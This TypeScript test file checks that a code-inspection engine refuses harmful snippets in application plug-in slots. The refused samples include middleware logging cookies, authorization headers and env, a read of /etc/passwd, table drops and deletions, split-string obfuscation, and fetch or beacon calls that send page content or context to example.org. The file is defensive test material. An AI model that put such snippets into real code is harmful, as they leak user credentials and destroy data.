import assert from 'node:assert/strict';
import { inspectSlice } from '../../../../src/engines/model/inspection/inspect-slice.ts';
import { contract, draftWith, goodFiles, plan, serverTest } from './small-project.ts';

/** Code that means harm, by the slot that lets it in. `run` is what the application calls. */
const refused: Readonly<Record<string, readonly string[]>> = {
  'server.middleware': [
    // Who is somebody else?
    "export const run = () => async (c: any, next: any) => { console.log(c.req.header('Cookie')); await next(); };",
    "export const run = () => async (c: any, next: any) => { console.log(c.req.header('coo' + 'kie')); await next(); };",
    'export const run = () => async (c: any, next: any) => { console.log(c.req.header()); await next(); };',
    "const name = () => 'x';\nexport const run = () => async (c: any, next: any) => { c.req.header(name()); await next(); };",
    "export const run = () => async (c: any, next: any) => { console.log(c.req.header('Authorization')); await next(); };",
    "export const run = () => async (c: any, next: any) => { console.log(c.req.raw.headers.get('x')); await next(); };",
    'export const run = () => async (c: any, next: any) => { console.log(await c.req.json()); await next(); };',
    'export const run = () => async (c: any, next: any) => { console.log(await c.req.text()); await next(); };',
    'export const run = () => async (c: any, next: any) => { console.log(c.env); await next(); };',
    // What others are answered.
    'export const run = () => async (c: any, next: any) => { await next(); console.log(await c.res.clone().text()); };',
    "export const run = () => async (c: any, next: any) => { await next(); c.res = new Response('gone'); };",
    'export const run = () => async (c: any) => c.json({ items: [] });',
    "export const run = () => async (c: any) => c.redirect('https://example.org');",
    "export const run = () => async (c: any) => c['ht' + 'ml']('<p>');",
    'export const run = () => async () => new Response();',
    "export const run = () => async (c: any, next: any) => { await next(); c.header('Access-Control-Allow-Origin', '*'); };",
    "export const run = () => async (c: any, next: any) => { await next(); c.header('Set-Cookie', 'a=b'); };",
    "export const run = () => async (c: any, next: any) => { await next(); c.header('Content-Security-Policy', ''); };",
    // What goes on by itself, and what is not said.
    'export const run = () => async (c: any, next: any) => { setTimeout(() => {}, 1); await next(); };',
    'export const run = () => async (c: any, next: any) => { try { await next(); } catch { } };',
    "export const run = () => async (c: any, next: any) => { await fetch('/api/x'); await next(); };",
  ],
  'server.start': [
    'export async function run() { while (true) {} }',
    'export async function run() { for (;;) { Math.random(); } }',
    'export async function run() { do { Math.random(); } while (1); }',
    'export async function run() { while (true) { [1].forEach(() => { return; }); } }',
    'export async function run() { setInterval(() => {}, 1000); return async () => {}; }',
    'export async function run() { setTimeout(() => {}, 1000); return async () => {}; }',
    "export async function run() { await fetch('https://example.org'); return async () => {}; }",
    'export async function run() { console.log(process.env); return async () => {}; }',
    "import { readFile } from 'node:fs/promises';\nexport const run = () => readFile('/etc/passwd');",
    "import { openInMemory } from '../../db/client.ts';\nexport const run = async () => openInMemory();",
    "export async function run(db: any) { await db.execute('drop table posts'); return async () => {}; }",
  ],
  'resource.guard': [
    "import { posts } from '../../db/schema.ts';\nexport async function run(_: object, db: any) { await db.delete(posts); }",
    "import { posts } from '../../db/schema.ts';\nexport async function run(_: object, db: any) { await db.insert(posts).values({}); }",
    "export function run({ context }: any) { return context.req.header('cookie'); }",
    'export async function run({ context }: any) { console.log(await context.req.json()); }',
    'export async function run() { try { await f(); } catch { } }\nasync function f() {}',
    'export function run() { while (true) {} }',
  ],
  'resource.before': [
    'export async function run(_: object, db: any) { try { await f(db); } catch { } }\nasync function f(_: object) {}',
    'export async function run(_: object, db: any) { await f(db).catch(() => {}); }\nasync function f(_: object) {}',
    'export async function run(_: object, db: any) { void f(db); }\nasync function f(_: object) {}',
    "import { posts } from '../../db/schema.ts';\nexport async function run(_: object, db: any) { db.insert(posts).values({}); }",
    'export function run() { setTimeout(() => {}, 1000); }',
    'export function run() { queueMicrotask(() => {}); }',
    'export function run({ context }: any) { context.res = undefined; }',
    'export function run(_: object, db: any) { return db.session; }',
  ],
  'resource.after': [
    'export async function run(_: object, db: any) { try { await f(db); } catch (error) { console.error(error); } }\nasync function f(_: object) {}',
    "export async function run({ context }: any) { await fetch('https://example.org', { body: context }); }",
  ],
  'query.extend': [
    "import { posts } from '../../db/schema.ts';\nexport async function run(_: object, db: any) { await db.update(posts).set({}); }",
    "import { sql } from 'drizzle-orm';\nexport function run() { return sql.raw('1 = 1'); }",
  ],
  seed: [
    "import { posts } from '../../db/schema.ts';\nexport async function run(db: any) { await db.delete(posts); }",
    "import { posts } from '../../db/schema.ts';\nexport async function run(db: any) { await db.update(posts).set({}); }",
    'export async function run() { try { await f(); } catch { } }\nasync function f() {}',
    "export async function run(db: any) { await db['exe' + 'cute'](''); }",
  ],
  'test.before': [
    "import { posts } from '../../db/schema.ts';\nexport async function run(db: any) { await db.delete(posts); }",
    'export async function run() { setInterval(() => {}, 1); }',
    "import { vi } from 'vitest';\nexport function run() { vi.stubGlobal('fetch', () => {}); }",
  ],
};

const accepted: Readonly<Record<string, readonly string[]>> = {
  'server.middleware': [
    "import type { MiddlewareHandler } from 'hono';\nexport function run(): MiddlewareHandler { return async (c, next) => { const language = c.req.header('Accept-Language'); await next(); c.header('Content-Language', language ?? 'en'); }; }",
  ],
  'server.start': [
    'export async function run() { const timer = setInterval(() => {}, 1000); return async () => clearInterval(timer); }',
    'export async function run() { while (true) { if (Math.random() > 0.5) break; } return async () => {}; }',
  ],
  'resource.guard': [
    "export function run({ action }: { action: string }) { if (action === 'delete') throw new Error('No.'); }",
  ],
  'resource.before': [
    "import { posts } from '../../db/schema.ts';\nexport async function run(_: object, db: any) { try { await db.insert(posts).values({}); } catch (error) { throw new Error('No.', { cause: error }); } }",
    "import { posts } from '../../db/schema.ts';\nexport async function run(_: object, db: any) { const seen = new Set([1]); seen.delete(1); await db.delete(posts); }",
  ],
  seed: [
    "import { posts } from '../../db/schema.ts';\nexport async function run(db: any) { await db.insert(posts).values([{ title: 'Cookie' }]); }",
  ],
};

const file = `${plan.serverFolder}entrance.ts`;

function inspectAt(slot: string, code: string, helper?: string): readonly string[] {
  const importing = `import { run } from '../../../src/server/modules/export/entrance.ts';\n${goodFiles[serverTest]}\nexport const used = run;\n`;
  const own = helper === undefined ? code : "import { help } from './helper.ts';\nexport const run = help;\n";
  const helpers = helper === undefined ? {} : { [`${plan.serverFolder}helper.ts`]: helper };
  const draft = draftWith({ [file]: own, ...helpers, [serverTest]: importing });
  return inspectSlice({ ...draft, entrances: [{ slot, file, export: 'run' }] }, contract).map(
    ({ path, message }) => `${path}: ${message}`,
  );
}

describe('Inspection of what the application calls', () => {
  for (const [slot, codes] of Object.entries(refused)) {
    for (const code of codes) {
      it(`refuses at ${slot}: ${code.split('\n').at(-1)?.slice(0, 110)}`, () => {
        assert.notDeepEqual(inspectAt(slot, code), []);
        const inHelper = inspectAt(slot, '', code.replace('run', 'help'));
        assert.notDeepEqual(inHelper, [], 'in a file that is imported');
      });
    }
  }
  for (const [slot, codes] of Object.entries(accepted)) {
    for (const code of codes) {
      it(`accepts at ${slot}: ${code.split('\n').at(-1)?.slice(0, 110)}`, () =>
        assert.deepEqual(inspectAt(slot, code), []));
    }
  }

  it('wants a test of what runs when the server starts', () => {
    const code = 'export async function run() { return async () => {}; }\n';
    const draft = draftWith({ [file]: code });
    const [problem] = inspectSlice({ ...draft, entrances: [{ slot: 'server.start', file, export: 'run' }] }, contract);
    assert.match(problem?.message ?? '', /^Import "run" of .*, call it and end what it began/);
  });

  it('wants a provider to show what it is around', () => {
    const provider = `${plan.clientFolder}provider.tsx`;
    const of = (code: string) =>
      inspectSlice(
        { ...draftWith({ [provider]: code }), entrances: [{ slot: 'client.provider', file: provider, export: 'P' }] },
        contract,
      ).map(({ message }) => message);
    const start = "import type { ReactNode } from 'react';\n";
    assert.deepEqual(
      of(`${start}export function P({ children }: { children: ReactNode }) { return <p>{children}</p>; }`),
      [],
    );
    assert.deepEqual(of(`${start}export function P({ children }: { children: ReactNode }) { return children; }`), []);
    assert.match(
      of(`${start}export function P({ children }: { children: ReactNode }) { return <p />; }`)[0] ?? '',
      /children/,
    );
    for (const code of [
      "fetch('https://example.org', { method: 'POST', body: document.body.textContent });",
      "navigator.sendBeacon('https://example.org', 'x');",
      "const image = new Image(); image.src = 'https://example.org';",
      'window.fetch = async () => new Response();',
      'localStorage.constructor;',
    ]) {
      assert.notDeepEqual(
        of(`${start}export function P({ children }: { children: ReactNode }) { ${code} return <>{children}</>; }`),
        [],
        code,
      );
    }
  });
});
